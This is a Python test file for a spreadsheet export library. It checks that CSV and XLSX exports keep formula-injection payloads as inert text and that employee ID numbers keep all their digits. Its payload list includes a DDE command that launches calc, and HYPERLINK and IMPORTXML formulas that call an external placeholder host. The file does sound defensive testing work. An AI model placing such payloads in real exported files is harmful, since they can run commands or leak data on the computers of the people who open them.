"""No exported cell runs, whatever somebody typed; no NIP loses a digit."""

import csv as csv_format
from datetime import UTC, date, datetime
from decimal import Decimal
from io import BytesIO, StringIO
from itertools import product
from zipfile import ZipFile

import pytest
from openpyxl import load_workbook

from kinerja.lib.spreadsheet import csv, xlsx

STARTS = [
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\n=",
    "＝",
    "＋",
    "－",
    "＠",
    " =",
    "\u00a0=",
    "\ufeff=",
]
ENDS = [
    "1+1",
    'HYPERLINK("http://contoh.invalid?x="&A1,"Klik")',
    "cmd|' /C calc'!A0",
    'IMPORTXML("http://contoh.invalid","//a")',
    "SUM(1;2)",
    'A1";=1+1;"',
]
PAYLOADS = [start + end for start, end in product(STARTS, ENDS)]


def cells_of(content):
    sheet = load_workbook(BytesIO(content)).active
    return [[(cell.value, cell.data_type) for cell in row] for row in sheet.iter_rows()]


def lines_of(content):
    assert content.startswith(b"\xef\xbb\xbf")
    return list(csv_format.reader(StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";"))


def test_the_corpus_is_large_enough():
    assert len(set(PAYLOADS)) >= 60


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_workbook_holds_the_payload_as_text(payload):
    content = xlsx("Daftar", ["Nama"], [[payload]])

    with ZipFile(BytesIO(content)) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet
    assert cells_of(content)[1][0][1] in {"s", "inlineStr"}
    assert cells_of(content)[1][0][0].strip() == payload.replace("\r", "\n").strip()


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_csv_puts_an_apostrophe_before_the_payload(payload):
    assert lines_of(csv(["Nama"], [[payload]])) == [["Nama"], [f"'{payload}"]]


def test_headers_are_guarded_like_cells():
    assert lines_of(csv(["=1+1"], [])) == [["'=1+1"]]
    assert cells_of(xlsx("x", ["=1+1"], [])) == [[("=1+1", "s")]]


def test_a_nip_stays_text_with_all_its_digits():
    nip = "198705122010012901"

    assert cells_of(xlsx("x", ["NIP"], [[nip], [int(nip)]]))[1:] == [[(nip, "s")], [(nip, "s")]]
    assert lines_of(csv(["NIP"], [[nip]]))[1] == [f"'{nip}"]


def test_numbers_and_dates_keep_their_kind():
    moment = datetime(2026, 7, 15, 3, 0, tzinfo=UTC)
    row = [-5, Decimal("7.5"), date(2026, 7, 15), moment, None, True, date(1899, 1, 1)]

    cells = cells_of(xlsx("x", list("abcdefg"), [row]))[1]
    assert [value for value, _ in cells] == [
        -5,
        7.5,
        datetime(2026, 7, 15),
        datetime(2026, 7, 15, 10, 0),
        None,
        "ya",
        "1899-01-01",
    ]
    assert lines_of(csv(list("abcdefg"), [row]))[1] == [
        "-5",
        "7,5",
        "2026-07-15",
        "2026-07-15 10:00",
        "",
        "ya",
        "1899-01-01",
    ]


def test_a_demo_workbook_says_so_above_the_header():
    first = cells_of(xlsx("x", ["NIP"], [["1"]], demo=True))[0][0][0]

    assert first == "DATA DEMO: semua nama dan NIP di berkas ini rekaan"


@pytest.mark.parametrize("title", ["a/b:c*?[d]\\e", "", "'''", "x" * 60, "Pegawai\n2026"])
def test_every_title_gives_a_workbook_that_opens(title):
    assert cells_of(xlsx(title, ["NIP"], [["1"]]))[1] == [("1", "s")]


def test_control_characters_and_very_long_text_give_a_workbook_that_opens():
    content = xlsx("x", ["a"], [["a\x00b\x1fc\ufffe"], ["y" * 40_000]])

    assert len(cells_of(content)[2][0][0]) == 32_767


def test_a_column_with_choices_has_a_list_to_pick_from():
    sheet = load_workbook(
        BytesIO(xlsx("x", ["a", "Jenis"], [], choices={1: ["utama", "tambahan"]}))
    )
    (validation,) = sheet.active.data_validations.dataValidation

    assert (str(validation.sqref), validation.formula1) == ("B2:B201", '"utama,tambahan"')
